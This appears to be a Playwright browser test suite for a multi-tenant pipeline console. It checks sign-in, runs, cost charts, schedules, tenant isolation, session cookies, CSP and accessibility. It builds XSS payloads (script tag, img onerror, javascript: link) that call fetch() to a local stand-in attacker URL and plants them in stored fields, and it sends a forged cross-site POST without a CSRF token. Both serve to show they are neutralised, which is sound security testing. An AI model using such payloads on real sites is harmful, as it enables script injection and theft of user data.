// The console in a real browser (Debian chromium via playwright-core): sign-in, live runs, cost
// chart totals, isolation, session safety, XSS, CSP and accessibility. Screenshots of each main
// view go to a temp folder (or CONSOLE_SCREENSHOT_DIR) for a reviewer; they are never committed.
import { after, before, describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { join } from 'node:path'
import type { BrowserContext, Page } from 'playwright-core'
import { ANTHROPIC_KEY, needsChromium, OPENAI_ADMIN_KEY, seriousViolations, signIn, startHarness, waitFor, type Harness } from './browser-harness.js'
import { TEST_ROOT_KEY } from '../helpers/app.js'
import { openDatasetWriter } from '../../src/core/datasets/index.js'
import { OPENAI_COST_SPEC } from '../../src/core/processors/openai/cost.js'
import { ANTHROPIC_COST_SPEC } from '../../src/core/processors/anthropic/cost.js'

const skip = needsChromium()
const RUN_DATE = '2026-11-27'

describe('console in a browser', { skip }, () => {
  let h: Harness
  let ctx: BrowserContext
  let page: Page
  const keys: Record<string, string> = {}
  const dialogs: string[] = []
  let xss = ''
  const views: { name: string; path: string; principal: 'a' | 'admin' }[] = []

  let release: () => void = () => undefined
  let held: Promise<void> = Promise.resolve()
  before(async () => {
    h = await startHarness(() => ['gpt-4o-mini', xss || 'gpt-4o'], () => held)
    const attackerUrl = `${h.attacker.url}/stolen`
    // Every payload names the attacker origin: a request there means something ran.
    xss = `<script>fetch('${attackerUrl}')</script><img src=x onerror="fetch('${attackerUrl}');alert(1)"><a href="javascript:fetch('${attackerUrl}')">x</a>`
    keys.a = await h.t.onboard('org-a', 'STARTER', { company_name: `Acme ${xss}` })
    keys.b = await h.t.onboard('org-b')
    ctx = await h.newContext()
    page = await ctx.newPage()
    page.on('dialog', (d) => {
      dialogs.push(d.message())
      void d.dismiss()
    })
  })
  after(async () => h?.close())

  const shot = async (name: string, p: Page = page) => {
    await p.screenshot({ path: join(h.shots, `${name}.png`), fullPage: true })
  }
  const go = async (path: string, p: Page = page) => {
    await p.goto(`${h.base}/console/#${path}`)
  }
  const heading = (text: string | RegExp, p: Page = page) => p.getByRole('heading', { level: 1, name: text }).waitFor()

  test('sign in with an org key: the overview shows that org quota', async () => {
    await signIn(page, h.base, keys.a!)
    await heading('Overview')
    const quota = (await h.t.app.inject({ url: '/api/v1/organizations/org-a/quota', headers: h.t.org(keys.a!) })).json()
    const daily = page.locator('[data-gauge="Runs today"]')
    await daily.waitFor()
    assert.match(await daily.innerText(), new RegExp(`of ${quota.daily.limit}`))
    assert.match(await page.locator('[data-gauge="Runs this month"]').innerText(), new RegExp(`of ${quota.monthly.limit}`))
    assert.match(await page.locator('[data-gauge="Running now"]').innerText(), new RegExp(`of ${quota.concurrent.limit}`))
    await page.getByText('No integration yet').waitFor({ state: 'visible', timeout: 60_000 })
    await shot('01-overview')
    views.push({ name: 'overview', path: '/overview', principal: 'a' })
  })

  test('set up OpenAI from the integrations view: the credential field is write-only', async () => {
    await go('/integrations')
    await heading('Integrations')
    await page.getByRole('button', { name: 'Set up openai' }).click()
    const field = page.getByLabel('Credential', { exact: true })
    // A key the provider refuses is not stored: the form says so, with the provider's reason.
    await field.fill('sk-admin-console-wrong-0123456789abcdef')
    await page.getByRole('button', { name: 'Save credential' }).click()
    const box = page.locator('.error-box', { hasText: 'CREDENTIAL_REJECTED' })
    await box.waitFor()
    assert.match(await box.innerText(), /The provider refused the credential; the previous one was kept/)
    assert.match(await box.innerText(), /UNAUTHORIZED/)
    assert.equal((await h.t.app.inject({ url: '/api/v1/integrations/org-a/openai', headers: h.t.org(keys.a!) })).json().status, 'NOT_CONFIGURED')
    await field.fill(OPENAI_ADMIN_KEY)
    await page.getByRole('button', { name: 'Save credential' }).click()
    await page.locator('[data-provider="openai"] .badge', { hasText: 'valid' }).waitFor()
    assert.ok(!(await page.content()).includes(OPENAI_ADMIN_KEY), 'the credential is not rendered back')
    await shot('02-integrations')
    views.push({ name: 'integrations', path: '/integrations', principal: 'a' })
  })

  test('trigger from the generated form: the run reaches COMPLETED live, steps and loaded rows are visible', async () => {
    await go('/pipelines')
    await heading('Pipelines')
    await shot('03-pipelines')
    await page.getByRole('link', { name: 'Run openai/usage/daily' }).click()
    await heading('Run openai/usage/daily')
    await shot('04-trigger-form')
    await page.getByLabel('date').fill(RUN_DATE)
    // The provider answers only when the test says so: the run is seen RUNNING, then COMPLETED live.
    held = new Promise<void>((r) => (release = r))
    const stream = page.waitForRequest((r) => r.url().includes('/events'), { timeout: 90_000 })
    await page.getByRole('button', { name: 'Start run' }).click()
    await page.waitForURL(/#\/runs\/run_/)
    const url = page.url()
    await stream
    await page.locator('[data-testid="run-status"] .badge', { hasText: 'running' }).waitFor({ timeout: 90_000 })
    await shot('05a-run-running')
    release()
    // No reload: the event stream flips the badge to completed.
    await page.locator('[data-testid="run-status"] .badge', { hasText: 'completed' }).waitFor({ timeout: 90_000 })
    assert.equal(page.url(), url)
    const steps = await page.locator('[data-testid="steps"] li').allInnerTexts()
    assert.equal(steps.length, 2, steps.join('\n'))
    assert.match(steps[0]!, /usage[\s\S]*2 rows/)
    assert.match(steps[1]!, /cost/)
    await shot('05-run-completed')
    const runId = url.split('/runs/')[1]!
    views.push({ name: 'run-detail', path: `/runs/${runId}`, principal: 'a' }, { name: 'runs', path: '/runs', principal: 'a' })
    await go('/data')
    await heading('Data')
    assert.equal(await page.getByTestId('rows-openai_usage_daily').innerText(), '2')
    await shot('06-data')
    await page.getByRole('link', { name: 'openai_usage_daily' }).click()
    await page.getByTestId('data-rows').waitFor()
    const text = await page.getByTestId('data-rows').innerText()
    assert.ok(text.includes('gpt-4o-mini') && text.includes(RUN_DATE))
    // The dataset value carrying the payload is shown as text.
    assert.ok(text.includes('<script>fetch('), 'the payload model name is rendered as text')
    await shot('07-table-rows')
    views.push({ name: 'data', path: '/data', principal: 'a' }, { name: 'table', path: '/data/openai_usage_daily', principal: 'a' })
  })

  test('the trigger form checks parameters like the server before sending anything', async () => {
    await go('/pipelines/console/local/prices')
    await heading('Run console/local/prices')
    const triggers: string[] = []
    const onRequest = (r: { url(): string; method(): string }) => {
      if (r.method() === 'POST' && r.url().includes('/pipelines/run/')) triggers.push(r.url())
    }
    page.on('request', onRequest)
    await page.getByRole('button', { name: 'Start run' }).click()
    await page.getByText('Required').waitFor()
    await page.locator('#param-n').fill('42')
    await page.locator('#param-label').fill('toolong')
    await page.getByRole('button', { name: 'Start run' }).click()
    await page.getByText('Must be at most 10').waitFor()
    assert.equal(await page.locator('#param-label').inputValue(), 'toolo', 'the max_length rule is the field maxLength')
    assert.equal(await page.locator('#param-n').getAttribute('aria-invalid'), 'true')
    await shot('04b-trigger-form-errors')
    assert.deepEqual(triggers, [], 'nothing is sent while the form is invalid')
    await page.locator('#param-n').fill('3')
    await page.locator('#param-label').fill('ok')
    await page.locator('#param-mode').selectOption('delta')
    await page.getByRole('button', { name: 'Start run' }).click()
    await page.waitForURL(/#\/runs\/run_/)
    await page.locator('[data-testid="run-status"] .badge', { hasText: 'completed' }).waitFor({ timeout: 90_000 })
    page.off('request', onRequest)
    assert.equal(triggers.length, 1)
    assert.match(await page.locator('.facts').innerText(), /n=3[\s\S]*mode=delta|mode=delta[\s\S]*n=3/)
  })

  test('a failing run shows its error title; an error message with markup renders as text', async () => {
    const setup = await h.t.app.inject({ method: 'POST', url: '/api/v1/integrations/org-a/anthropic/setup', headers: h.t.org(keys.a!), payload: { credential: ANTHROPIC_KEY } })
    assert.equal(setup.statusCode, 200, setup.body)
    await go('/pipelines/anthropic/usage/daily')
    await heading('Run anthropic/usage/daily')
    await page.getByLabel('date').fill(RUN_DATE)
    await page.getByRole('button', { name: 'Start run' }).click()
    await page.waitForURL(/#\/runs\/run_/)
    await page.locator('[data-testid="run-status"] .badge', { hasText: 'failed' }).waitFor({ timeout: 90_000 })
    assert.match(await page.getByTestId('run-error').innerText(), /The provider refused the credential/)
    const runId = page.url().split('/runs/')[1]!
    await h.t.ctx.db.kysely.updateTable('org_pipeline_runs').set({ error_message: xss }).where('run_id', '=', runId).execute()
    await page.reload()
    await page.getByTestId('run-error').waitFor()
    assert.ok((await page.getByTestId('run-error').innerText()).includes('<img src=x onerror='))
    await shot('08-run-failed')
  })

  test('cost chart: rendered totals match the rows written for two providers over several days', async () => {
    const keyC = await h.t.onboard('org-cost')
    const w = openDatasetWriter(h.t.ctx.db, h.t.ctx.config.dataDir, await h.t.datasetOf('org-cost'))
    await w.ensureTable(OPENAI_COST_SPEC)
    await w.ensureTable(ANTHROPIC_COST_SPEC)
    const day = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString().slice(0, 10)
    const openaiRows = [1, 2, 3, 5, 8].map((n, i) => ({
      date: day(n), model: i % 2 ? 'gpt-4o' : 'gpt-4o-mini', project_id: 'p', input_tokens: 1, cached_tokens: 0, output_tokens: 1, requests: 1,
      input_cost_usd: 0, cached_input_cost_usd: 0, output_cost_usd: 0, total_cost_usd: 1.25 * (i + 1), price_model: 'x', price_effective_date: day(30),
    }))
    const anthropicRows = [1, 2, 4, 40].map((n, i) => ({
      date: day(n), model: 'claude-sonnet-4', input_tokens: 1, cache_read_input_tokens: 0, cache_creation_tokens: 0, output_tokens: 1,
      input_cost_usd: 0, cache_read_cost_usd: 0, cache_write_cost_usd: 0, output_cost_usd: 0, total_cost_usd: 0.5 + i, price_model: 'x', price_effective_date: day(60),
    }))
    await w.upsertRows('openai_cost_daily', openaiRows)
    await w.upsertRows('anthropic_cost_daily', anthropicRows)
    const sum = (rows: { total_cost_usd: number }[]) => Math.round(rows.reduce((a, r) => a + r.total_cost_usd, 0) * 1e6) / 1e6
    const openai30 = sum(openaiRows)
    const anthropic30 = sum(anthropicRows.slice(0, 3)) // the 40-days-old row is outside 30 days
    const anthropic90 = sum(anthropicRows)

    const c2 = await h.newContext()
    const p2 = await c2.newPage()
    await signIn(p2, h.base, keyC)
    await go('/cost', p2)
    await p2.getByTestId('cost-total').waitFor()
    const value = async (sel: string) => Number(await p2.locator(sel).getAttribute('data-value'))
    assert.equal(await value('[data-series="openai"]'), openai30)
    assert.equal(await value('[data-series="anthropic"]'), anthropic30)
    assert.equal(await value('[data-testid="cost-total"]'), Math.round((openai30 + anthropic30) * 1e6) / 1e6)
    assert.equal(await p2.locator('svg.chart g[data-date] rect').count(), openaiRows.length + 3, 'one bar segment per (day, provider)')
    await shot('09-cost-30d', p2)
    await p2.getByLabel('Last 90 days').check()
    await waitFor('90-day totals', async () => (await value('[data-series="anthropic"]')) === anthropic90)
    assert.equal(await value('[data-testid="cost-total"]'), Math.round((openai30 + anthropic90) * 1e6) / 1e6)
    await p2.getByLabel('model').check()
    await waitFor('per-model series', async () => (await p2.locator('[data-series="openai/gpt-4o"]').count()) === 1)
    assert.equal(await value('[data-series="openai/gpt-4o"]'), sum(openaiRows.filter((r) => r.model === 'gpt-4o')))
    await shot('10-cost-90d-by-model', p2)
    await c2.close()
    views.push({ name: 'cost', path: '/cost', principal: 'a' })
  })

  test('schedules: create from the form, next fire time in its timezone, pause and resume; a stored name renders as text', async () => {
    await go('/schedules')
    await heading('Schedules')
    await page.getByText('No schedules yet').waitFor({ state: 'visible', timeout: 60_000 })
    await page.getByLabel('Pipeline').selectOption('openai/usage/daily')
    await page.getByLabel('Name (optional)').fill(xss.slice(0, 100))
    await page.getByLabel('Cron (min hour day month weekday)').fill('30 6 * * *')
    await page.getByLabel('Timezone').selectOption('Asia/Tokyo')
    await page.getByRole('button', { name: 'Create schedule' }).click()
    const row = page.locator('tbody tr').first()
    await row.waitFor()
    const text = await row.innerText()
    assert.match(text, /openai\/usage\/daily/)
    assert.match(text, /Asia\/Tokyo/)
    assert.match(text, /6:30|06:30/, 'the next run is shown at 06:30 in the schedule timezone')
    assert.ok(text.includes('<script>'), 'the schedule name is shown as text')
    assert.equal(await row.locator('.schedule-name img').count(), 0, 'no element was made from the name')
    assert.match(text, /Active/)
    // Pause, then resume, from the row's button: the server's state is what the list shows.
    await row.getByRole('button', { name: /^Pause/ }).click()
    await waitFor('paused', async () => /Paused/.test(await page.locator('tbody tr').first().innerText()))
    const paused = await h.t.ctx.db.kysely.selectFrom('org_schedules').select(['is_active']).where('org_slug', '=', 'org-a').execute()
    assert.deepEqual(paused.map((r) => Number(r.is_active)), [0])
    assert.doesNotMatch(await page.locator('tbody tr').first().innerText(), /6:30|06:30/, 'a paused schedule shows no next run')
    await shot('11b-schedules-paused')
    await page.locator('tbody tr').first().getByRole('button', { name: /^Resume/ }).click()
    await waitFor('resumed', async () => /Active/.test(await page.locator('tbody tr').first().innerText()))
    const resumed = await h.t.ctx.db.kysely.selectFrom('org_schedules').select(['is_active']).where('org_slug', '=', 'org-a').execute()
    assert.deepEqual(resumed.map((r) => Number(r.is_active)), [1])
    assert.deepEqual(dialogs, [])
    await shot('11-schedules')
    views.push({ name: 'schedules', path: '/schedules', principal: 'a' }, { name: 'pipelines', path: '/pipelines', principal: 'a' }, { name: 'trigger', path: '/pipelines/openai/usage/daily', principal: 'a' }, { name: 'audit', path: '/audit', principal: 'a' })
  })

  test('XSS payloads rendered as text: no dialog, no request to the attacker; the CSP blocks inline script', async () => {
    await go('/overview')
    await page.getByTestId('who').waitFor()
    assert.ok((await page.getByTestId('who').innerText()).includes('<script>'), 'the company name is shown as text')
    assert.deepEqual(dialogs, [])
    assert.equal(h.attacker.requests.filter((r) => r.path.startsWith('/stolen')).length, 0)
    const res = await page.goto(`${h.base}/console/`)
    const csp = res!.headers()['content-security-policy'] ?? ''
    assert.ok(csp.includes("script-src 'self'") && !csp.includes('unsafe-inline') && !csp.includes('unsafe-eval') && csp.includes("frame-ancestors 'none'"), csp)
    await page.getByTestId('who').waitFor()
    const outcome = await page.evaluate(async () => {
      const violations: string[] = []
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective))
      const s = document.createElement('script')
      s.textContent = 'window.__inlineRan = true'
      document.body.appendChild(s)
      await new Promise((r) => setTimeout(r, 200))
      return { ran: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, violations }
    })
    assert.equal(outcome.ran, false, 'inline script did not run')
    assert.ok(outcome.violations.some((v) => v.startsWith('script-src')), JSON.stringify(outcome.violations))
  })

  test('isolation: org A session cannot read or change org B, nor use operator routes', async () => {
    // A string, not a function: the test transpiler would add helpers the page does not have.
    const probe = (await page.evaluate(`(async () => {
      const csrf = (await (await fetch('/console/api/session')).json()).csrf_token
      const get = async (u) => (await fetch(u)).status
      const post = async (u, body) => (await fetch(u, { method: 'POST', headers: { 'content-type': 'application/json', 'x-tf-csrf': csrf }, body: JSON.stringify(body) })).status
      return {
        runs: await get('/api/v1/pipelines/org-b/runs'),
        integrations: await get('/api/v1/integrations/org-b'),
        data: await get('/api/v1/data/org-b/tables'),
        cost: await get('/api/v1/data/org-b/cost-summary'),
        schedules: await get('/api/v1/scheduler/org-b/schedules'),
        createSchedule: await post('/api/v1/scheduler/org-b/schedules', { pipeline_id: 'openai/usage/daily', cron: '0 1 * * *' }),
        trigger: await post('/api/v1/pipelines/run/org-b/openai/usage/daily', { parameters: {} }),
        setup: await post('/api/v1/integrations/org-b/openai/setup', { credential: 'sk-admin-xxxxxxxxxxxxxxxx' }),
        adminOrgs: await get('/api/v1/admin/overview/organizations'),
        adminSystem: await get('/api/v1/admin/system'),
        ownRuns: await get('/api/v1/pipelines/org-a/runs'),
      }
    })()`)) as Record<string, number>
    assert.equal(probe.ownRuns, 200, 'the probe itself works')
    delete probe.ownRuns
    for (const [k, status] of Object.entries(probe)) assert.equal(status, 403, k)
    const count = await h.t.ctx.db.kysely.selectFrom('org_schedules').select('schedule_id').where('org_slug', '=', 'org-b').execute()
    assert.equal(count.length, 0)
    // The operator views are not offered to a tenant: the route falls back to the tenant overview.
    await go('/orgs')
    await heading('Overview')
  })

  test('session: cookie flags, the key in no response, storage or URL; a cross-site POST without CSRF is refused', async () => {
    const c3 = await h.newContext()
    const p3 = await c3.newPage()
    const bodies: string[] = []
    const urls: string[] = []
    p3.on('request', (r) => urls.push(r.url()))
    p3.on('response', async (r) => {
      bodies.push(JSON.stringify(r.headers()))
      bodies.push(await r.text().catch(() => ''))
    })
    await signIn(p3, h.base, keys.b!)
    for (const v of ['/overview', '/runs', '/integrations', '/schedules', '/data', '/cost']) {
      await go(v, p3)
      await p3.locator('main h1').waitFor()
      await p3.waitForLoadState('networkidle')
    }
    const cookies = await c3.cookies(h.base)
    const session = cookies.find((c) => c.name === 'tf_session')
    assert.ok(session)
    assert.equal(session.httpOnly, true)
    assert.equal(session.sameSite, 'Strict')
    assert.equal(session.path, '/')
    assert.ok(session.expires > Date.now() / 1000, 'short-lived, with an expiry')
    assert.ok(bodies.length > 10)
    assert.ok(!bodies.some((b) => b.includes(keys.b!)), 'the key is in no response')
    assert.ok(!urls.some((u) => u.includes(keys.b!)), 'the key is in no URL')
    const storage = await p3.evaluate(async () => ({
      local: JSON.stringify({ ...localStorage }),
      session: JSON.stringify({ ...sessionStorage }),
      idb: JSON.stringify(await indexedDB.databases()),
      cookie: document.cookie,
    }))
    assert.deepEqual(storage, { local: '{}', session: '{}', idb: '[]', cookie: '' }, 'nothing stored; the cookie is invisible to scripts')
    // Another origin on the same site (127.0.0.1, another port) posts with the cookie but without the token.
    const before = await h.t.ctx.db.kysely.selectFrom('org_schedules').select('schedule_id').where('org_slug', '=', 'org-b').execute()
    await p3.goto(`${h.attacker.url}/page`)
    const target = `${h.base}/api/v1/scheduler/org-b/schedules`
    const response = p3.waitForResponse((r) => r.url() === target)
    await p3.evaluate((u) => {
      void fetch(u, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ pipeline_id: 'openai/usage/daily', cron: '0 2 * * *' }) })
    }, target)
    assert.equal((await response).status(), 403)
    const afterRows = await h.t.ctx.db.kysely.selectFrom('org_schedules').select('schedule_id').where('org_slug', '=', 'org-b').execute()
    assert.equal(afterRows.length, before.length)
    await c3.close()
  })

  test('rotating the key or suspending the org ends the session on its next request', async () => {
    const keyR = await h.t.onboard('org-rot')
    const keyS = await h.t.onboard('org-sus')
    const cR = await h.newContext()
    const pR = await cR.newPage()
    await signIn(pR, h.base, keyR)
    const cS = await h.newContext()
    const pS = await cS.newPage()
    await signIn(pS, h.base, keyS)
    const rot = await h.t.app.inject({ method: 'POST', url: '/api/v1/organizations/org-rot/api-key/rotate', headers: h.t.org(keyR), payload: { grace_seconds: 600 } })
    assert.equal(rot.statusCode, 200)
    const sus = await h.t.app.inject({ method: 'PUT', url: '/api/v1/organizations/org-sus/subscription', headers: h.t.root, payload: { status: 'SUSPENDED' } })
    assert.equal(sus.statusCode, 200)
    for (const p of [pR, pS]) {
      await go('/runs', p)
      await p.getByRole('heading', { name: 'Sign in to tenantflow' }).waitFor()
    }
    await cR.close()
    await cS.close()
  })

  test('operator: organizations, detail, system health and the audit log across orgs', async () => {
    const cA = await h.newContext()
    const pA = await cA.newPage()
    await signIn(pA, h.base, TEST_ROOT_KEY)
    await heading('Organizations', pA)
    const list = await pA.locator('tbody').innerText()
    assert.ok(list.includes('org-a') && list.includes('org-b'), 'the operator sees both orgs')
    assert.ok(list.includes('<script>'), 'company names render as text')
    await shot('12-operator-orgs', pA)
    await pA.getByRole('searchbox').fill('org-b')
    await pA.getByRole('button', { name: 'Search' }).click()
    await waitFor('search result', async () => !(await pA.locator('tbody').innerText()).includes('org-a'))
    await pA.getByRole('link', { name: 'org-b' }).click()
    await heading('org-b', pA)
    await pA.getByRole('button', { name: 'Suspend' }).click()
    await pA.getByRole('button', { name: 'Resume' }).waitFor()
    assert.equal((await h.t.app.inject({ url: '/api/v1/organizations/org-b/subscription', headers: h.t.root })).json().status, 'SUSPENDED')
    await pA.getByRole('button', { name: 'Resume' }).click()
    await pA.getByRole('button', { name: 'Suspend' }).waitFor()
    await pA.getByLabel('Plan').selectOption('PROFESSIONAL')
    await pA.getByRole('button', { name: 'Change plan' }).click()
    await pA.getByText('Plan changed to PROFESSIONAL.').waitFor()
    assert.equal((await h.t.app.inject({ url: '/api/v1/organizations/org-b/subscription', headers: h.t.root })).json().plan_name, 'PROFESSIONAL')
    await pA.getByLabel('daily limit').fill('7')
    await pA.getByRole('button', { name: 'Save limits' }).click()
    await pA.getByText('Limits saved.').waitFor()
    assert.equal((await h.t.app.inject({ url: '/api/v1/organizations/org-b/subscription', headers: h.t.root })).json().daily_limit, 7)
    const offboard = pA.getByRole('button', { name: 'Offboard org-b' })
    assert.equal(await offboard.isDisabled(), true, 'offboarding needs the typed confirmation')
    await shot('13-operator-org-detail', pA)
    await go('/system', pA)
    await heading('System health', pA)
    await pA.getByText('wrap/unwrap check passed').waitFor()
    // The test's engine checks in on start: it is listed while idle, with its slots and role.
    const processes = await pA.getByTestId('processes').innerText()
    assert.ok(processes.includes(h.t.ctx.engine!.workers.workerId), 'this engine instance is listed')
    assert.match(processes, /serve/)
    await shot('14-operator-system', pA)
    await go('/audit-all', pA)
    await heading('Audit log (all organizations)', pA)
    const audit = await pA.locator('tbody').innerText()
    assert.ok(audit.includes('org-a') && audit.includes('org-b'))
    await shot('15-operator-audit', pA)
    await cA.close()
    views.push({ name: 'orgs', path: '/orgs', principal: 'admin' }, { name: 'org-detail', path: '/orgs/org-a', principal: 'admin' }, { name: 'system', path: '/system', principal: 'admin' }, { name: 'audit-all', path: '/audit-all', principal: 'admin' })
  })

  test('accessibility: no serious or critical axe-core violation on each main view; phone-width screenshots', async () => {
    const cX = await h.newContext()
    const pX = await cX.newPage()
    await pX.goto(`${h.base}/console/`)
    await pX.getByLabel('Organization API key or root key').waitFor()
    const found: string[] = []
    const check = async (name: string) => {
      await pX.locator('main h1').first().waitFor()
      await pX.waitForLoadState('networkidle')
      for (const v of await seriousViolations(pX)) found.push(`${name}: ${v.id} (${v.impact}) ${v.help} — ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`)
    }
    await check('sign-in')
    await shot('00-sign-in', pX)
    await signIn(pX, h.base, keys.a!)
    for (const v of views.filter((x) => x.principal === 'a')) {
      await go(v.path, pX)
      await check(v.name)
    }
    await pX.setViewportSize({ width: 390, height: 844 })
    for (const v of ['/overview', '/runs', '/cost']) {
      await go(v, pX)
      await pX.locator('main h1').first().waitFor()
      await pX.waitForLoadState('networkidle')
      await shot(`phone-${v.slice(1)}`, pX)
    }
    await check('phone overview')
    await pX.setViewportSize({ width: 1280, height: 860 })
    await pX.getByRole('button', { name: 'Sign out' }).click()
    await pX.getByRole('heading', { name: 'Sign in to tenantflow' }).waitFor()
    await signIn(pX, h.base, TEST_ROOT_KEY)
    for (const v of views.filter((x) => x.principal === 'admin')) {
      await go(v.path, pX)
      await check(v.name)
    }
    await cX.close()
    assert.deepEqual(found, [])
  })
})
